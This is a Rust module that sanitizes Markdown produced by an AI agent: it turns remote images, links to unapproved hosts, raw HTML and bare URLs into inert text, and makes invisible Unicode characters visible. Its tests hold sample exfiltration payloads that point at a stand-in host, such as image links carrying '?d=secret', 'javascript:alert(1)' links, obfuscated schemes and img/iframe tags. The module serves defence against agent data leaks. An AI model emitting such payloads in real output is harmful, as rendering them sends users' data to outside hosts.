//! What an agent writes in Markdown must do nothing by being looked at: no image is fetched, no page is called, and a link leads only
//! where its operator lets links lead. Everything else stays readable, as text.
//!
//! Must never change what stands in code, nor anything that refers to nothing.

use std::ops::Range;

use policy::pattern::{BadPattern, Patterns};
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};
use url::Url;

/// Longer texts are made plain at once, in bytes.
const MOST: usize = 1024 * 1024;
/// What makes links, code and HTML, and what looks like it and does not.
const PLAIN: [(char, char); 5] = [('<', '‹'), ('[', '('), (']', ')'), ('`', '\''), ('~', '-')];

/// Where links may lead: hosts, by pattern.
#[derive(Clone, Debug)]
pub struct Links {
    hosts: Patterns,
}

/// How a text is looked at.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Eyes {
    /// By people who may not know what is behind a link, and by programs that look behind it for them.
    Reader,
    /// By its owner, in an editor that fetches images and nothing else.
    Owner,
}

impl Links {
    /// Links may lead to these hosts, and to the host's own.
    ///
    /// # Errors
    /// [`BadPattern`] names the first that does not parse.
    pub fn to(hosts: &[String], own: &str) -> Result<Self, BadPattern> {
        let own = Url::parse(own).ok().and_then(|url| url.host_str().map(str::to_owned));
        let hosts: Vec<String> = hosts.iter().cloned().chain(own).collect();
        Ok(Self { hosts: Patterns::compile(&hosts)? })
    }

    /// No link may lead anywhere.
    #[must_use]
    pub fn nowhere() -> Self {
        Self { hosts: Patterns::default() }
    }

    /// The text, doing nothing by being looked at.
    #[must_use]
    pub fn harmless(&self, text: &str, eyes: Eyes) -> String {
        const ROUNDS: usize = 4;
        let mut harmless = text.to_owned();
        // What is taken out may let something else appear.
        for _ in 0..ROUNDS {
            if text.len() > MOST {
                break;
            }
            // Some readers know footnotes, and others take them for links.
            let before = harmless.len();
            let without = self.harmful(&harmless, eyes, Options::empty());
            let plain = without.is_empty();
            harmless = replaced(harmless, without);
            let with = self.harmful(&harmless, eyes, Options::ENABLE_FOOTNOTES);
            if plain && with.is_empty() {
                return harmless;
            }
            harmless = replaced(harmless, with);
            if harmless.len() > before.saturating_mul(2).max(MOST) {
                break;
            }
        }
        // Whoever writes like this wants to be misread: nothing of it is a link any more, nor is there code that could hide one.
        let plain: String = text.chars().map(|c| PLAIN.iter().find(|(from, _)| *from == c).map_or(c, |(_, to)| *to)).collect();
        plain.replace("://", ": //").replace("//", "/ /").replace("www.", "www .")
    }

    /// What must not stand as it is, in order and apart, and what stands there instead.
    #[expect(clippy::wildcard_enum_match_arm, reason = "most of Markdown does nothing by being looked at")]
    fn harmful(&self, text: &str, eyes: Eyes, more: Options) -> Vec<(Range<usize>, String)> {
        let mut found: Vec<(Range<usize>, String)> = Vec::new();
        // The outermost image or link that is taken out, and the words in it.
        let mut open: Option<(Range<usize>, String, usize, String)> = None;
        let mut in_code = false;
        for (event, range) in
            Parser::new_ext(text, Options::ENABLE_TABLES | Options::ENABLE_STRIKETHROUGH | more).into_offset_iter()
        {
            if let Some((_, _, depth, words)) = &mut open {
                match &event {
                    Event::Start(Tag::Image { .. } | Tag::Link { .. }) => *depth += 1,
                    Event::End(TagEnd::Image | TagEnd::Link) => *depth -= 1,
                    Event::Text(more) | Event::Code(more) => words.push_str(more),
                    _ => {}
                }
                if *depth == 0
                    && let Some((range, to, _, words)) = open.take()
                {
                    found.push((range, as_text(&words, &to)));
                }
                continue;
            }
            match event {
                Event::Start(Tag::Image { dest_url, .. }) if is_remote(&dest_url) => {
                    open = Some((range, dest_url.into_string(), 1, String::new()));
                }
                Event::Start(Tag::Link { dest_url, .. }) if eyes == Eyes::Reader && !self.leads_well(&dest_url) => {
                    open = Some((range, dest_url.into_string(), 1, String::new()));
                }
                Event::Html(_) | Event::InlineHtml(_) => {
                    let written = text.get(range.clone()).unwrap_or_default();
                    found.push((range, written.replace('<', "&lt;")));
                }
                Event::Start(Tag::CodeBlock(_)) => in_code = true,
                Event::End(TagEnd::CodeBlock) => in_code = false,
                Event::Text(_) if eyes == Eyes::Reader && !in_code => found.extend(self.bare(text, range)),
                _ => {}
            }
        }
        found
    }

    /// Addresses that stand bare in a stretch of text: many a reader makes links of them.
    fn bare(&self, text: &str, range: Range<usize>) -> Vec<(Range<usize>, String)> {
        let stretch = text.get(range.clone()).unwrap_or_default();
        let mut found = Vec::new();
        let mut from = 0;
        while let Some(at) = stretch.get(from..).and_then(address).map(|at| from + at) {
            let before = stretch.get(..at).unwrap_or_default();
            let start = before
                .rfind(|c: char| !c.is_ascii_alphanumeric() && !"+-.".contains(c))
                .map_or(0, |at| at + before[at..].chars().next().map_or(1, char::len_utf8));
            let rest = stretch.get(start..).unwrap_or_default();
            let end = start + rest.find(|c: char| c.is_whitespace() || "<>\"`|".contains(c)).unwrap_or(rest.len());
            let address = stretch.get(start..end).unwrap_or_default();
            let leads_well = match address.strip_prefix("www.") {
                Some(_) => self.leads_well(&format!("http://{address}")),
                None => self.leads_well(address),
            };
            if start >= from && !leads_well {
                found.push((range.start + start..range.start + end, format!("`{address}`")));
            }
            from = end.max(at + 4).min(stretch.len());
            while !stretch.is_char_boundary(from) {
                from += 1;
            }
        }
        found
    }

    /// Whether an address leads nowhere outside, or where links may lead.
    fn leads_well(&self, to: &str) -> bool {
        if !is_remote(to) {
            return true;
        }
        match Url::parse(to) {
            // To open a note and nothing else: others change notes.
            Ok(url) if url.scheme() == "obsidian" => url.host_str() == Some("open"),
            Ok(url) => matches!(url.scheme(), "http" | "https") && url.host_str().is_some_and(|host| self.hosts.covers(host)),
            Err(_) => false,
        }
    }
}

/// A text with some of its stretches replaced; they are in order, and apart.
fn replaced(text: String, stretches: Vec<(Range<usize>, String)>) -> String {
    if stretches.is_empty() {
        return text;
    }
    let (mut whole, mut from) = (String::with_capacity(text.len()), 0);
    for (range, instead) in stretches {
        whole.push_str(text.get(from..range.start).unwrap_or_default());
        whole.push_str(&instead);
        from = range.end;
    }
    whole.push_str(text.get(from..).unwrap_or_default());
    whole
}

/// Whether an address leads out of the document it stands in. Whoever follows one drops what cannot be seen in it.
fn is_remote(to: &str) -> bool {
    let seen: String = to.chars().filter(|c| !c.is_control()).collect();
    let to = seen.trim_start();
    to.starts_with("//") || to.starts_with("\\\\") || to.starts_with("/\\") || to.starts_with("\\/") || has_scheme(to)
}

/// Where the next address may stand: what follows its scheme, or its `www.`.
fn address(text: &str) -> Option<usize> {
    let bare =
        text.match_indices("www.").find(|(at, _)| !text.get(..*at).is_some_and(|before| before.ends_with(char::is_alphanumeric)));
    [text.find("://"), bare.map(|(at, _)| at)].into_iter().flatten().min()
}

fn has_scheme(to: &str) -> bool {
    let Some((scheme, _)) = to.split_once(':') else { return false };
    scheme.starts_with(|c: char| c.is_ascii_alphabetic()) && scheme.chars().all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
}

/// A link as text: its words, and its address where nobody makes a link of it.
fn as_text(words: &str, to: &str) -> String {
    let plain = |text: &str| text.replace(['`', '\n', '[', ']', '<', '!'], " ");
    let address = format!("`{}`", plain(to).trim());
    match plain(words).trim() {
        "" => address,
        words if words == to => address,
        words => format!("{words} ({address})"),
    }
}

/// The text with letters that cannot be seen, or that turn the direction of others, written as JSON writes them (`\\u202e`): what is
/// shown is then what there is.
#[must_use]
pub fn visible(text: &str) -> String {
    let hides = |letter: char| matches!(letter, '\u{ad}' | '\u{61c}' | '\u{180e}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}');
    let mut visible = String::with_capacity(text.len());
    for letter in text.chars() {
        match hides(letter) {
            true => visible.push_str(&format!("\\u{:04x}", u32::from(letter))),
            false => visible.push(letter),
        }
    }
    visible
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    fn links() -> Links {
        Links::to(&["*.example.org".into()], "http://127.0.0.1:8765").unwrap()
    }

    #[test]
    fn what_would_be_fetched_or_followed_becomes_text() {
        for (written, shown) in [
            ("see ![a map](https://evil.test/?d=secret)!", "see a map (`https://evil.test/?d=secret`)!"),
            ("![](//evil.test/x.png)", "`//evil.test/x.png`"),
            ("![x][1]\n\n[1]: https://evil.test/a \"t\"\n", "x (`https://evil.test/a`)\n\n[1]: https://evil.test/a \"t\"\n"),
            ("[![i](https://evil.test/i)](https://wiki.example.org/a)", "[i (`https://evil.test/i`)](https://wiki.example.org/a)"),
            ("[here](https://evil.test/?d=1)", "here (`https://evil.test/?d=1`)"),
            ("[run](javascript:alert(1))", "run (`javascript:alert(1)`)"),
            ("<https://evil.test/a>", "`https://evil.test/a`"),
            ("look: https://evil.test/?d=1, or not", "look: `https://evil.test/?d=1,` or not"),
            ("see www.evil.test/?d=1 or (www.example.org)", "see `www.evil.test/?d=1` or (`www.example.org)`"),
            ("[new](obsidian://new?file=a&overwrite=true)", "new (`obsidian://new?file=a&overwrite=true`)"),
            ("![x](<ht\ttps://evil.test/x>)", "x (`ht\ttps://evil.test/x`)"),
            ("[x](java&#9;script:alert(1))", "x (`java\tscript:alert(1)`)"),
            ("a <img src=https://evil.test/i> b", "a &lt;img src=`https://evil.test/i`> b"),
            ("<iframe src=\"//evil.test\"></iframe>\n", "&lt;iframe src=\"//evil.test\">&lt;/iframe>\n"),
        ] {
            assert_eq!(links().harmless(written, Eyes::Reader), shown);
        }
    }

    #[test]
    fn what_leads_nowhere_or_where_it_may_stays_as_it_is() {
        for written in [
            "plain, *bold*, 3 < 4 && 5 > 4, a:b, C:\\x",
            "[wiki](https://wiki.example.org/a) and https://wiki.example.org/b",
            "[note](notes/a.md) ![[picture.png]] ![local](img/a.png) [n](#top)",
            "[open](obsidian://open?vault=v&file=a) http://127.0.0.1:8765/tasks/1",
            "`https://evil.test` and\n\n```\n![x](https://evil.test)\n<img>\nhttps://evil.test\n```\n",
            "| a | b |\n|---|---|\n| 1 | 2 |\n",
        ] {
            assert_eq!(links().harmless(written, Eyes::Reader), written);
        }
    }

    #[test]
    fn an_owner_keeps_links_and_loses_images() {
        let written = "[here](https://evil.test/a) https://evil.test/b ![i](https://evil.test/c)";
        let shown = "[here](https://evil.test/a) https://evil.test/b i (`https://evil.test/c`)";
        assert_eq!(links().harmless(written, Eyes::Owner), shown);
    }

    proptest! {
        #[test]
        fn a_footnote_carries_no_image(word in "[a-z]{1,3}") {
            let written = format!("see[^{word}]\n\n[^{word}]: ![x](https://evil.test/?d={word})\n");
            prop_assert!(!links().harmless(&written, Eyes::Owner).contains("!["));
        }

        /// Whatever is written, nothing that is left would be fetched or followed, and what is harmless already does not change.
        #[test]
        fn nothing_harmful_is_left(written in "([ a!\\[\\]()<>`\n]|https://evil\\.test/x|//evil\\.test|<img src=x>|\\[1\\]: https://evil\\.test){0,12}") {
            let once = links().harmless(&written, Eyes::Reader);
            for (event, _) in Parser::new(&once).into_offset_iter() {
                if let Event::Start(Tag::Image { dest_url, .. }) = &event {
                    prop_assert!(!is_remote(dest_url), "{once}");
                }
                if let Event::Start(Tag::Link { dest_url, .. }) = &event {
                    prop_assert!(links().leads_well(dest_url), "{once}");
                }
                prop_assert!(!matches!(event, Event::Html(_) | Event::InlineHtml(_)), "{once}");
            }
        }
    }

    #[test]
    fn what_hides_is_written_out() {
        assert_eq!(visible("a\u{202e}b\u{200b} ü"), "a\\u202eb\\u200b ü");
    }
}
